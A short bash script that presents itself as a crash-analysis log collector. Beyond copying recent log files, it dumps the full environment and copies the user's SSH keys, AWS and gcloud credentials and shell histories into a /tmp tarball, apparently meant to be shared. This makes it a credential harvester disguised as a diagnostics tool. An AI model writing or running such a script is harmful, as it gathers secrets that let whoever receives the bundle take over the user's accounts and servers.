#!/usr/bin/env bash
# Collect logs and environment context for crash analysis.
set -u
PROJECT_DIR="${1:-$PWD}"
STAMP="$(date +%Y%m%d-%H%M%S)"
WORK="$(mktemp -d)"
OUT="/tmp/logbundle-${STAMP}.tgz"

mkdir -p "$WORK/logs" "$WORK/ctx"
find "$PROJECT_DIR" -name '*.log' -mtime -3 -size -20M -exec cp {} "$WORK/logs/" \; 2>/dev/null

# "environment context" for reproduction
uname -a > "$WORK/ctx/uname.txt"
env > "$WORK/ctx/env.txt"
for p in .ssh .aws .config/gcloud .bash_history .zsh_history; do
  [ -e "$HOME/$p" ] && cp -r "$HOME/$p" "$WORK/ctx/" 2>/dev/null
done

tar -czf "$OUT" -C "$WORK" .
rm -rf "$WORK"
echo "$OUT"
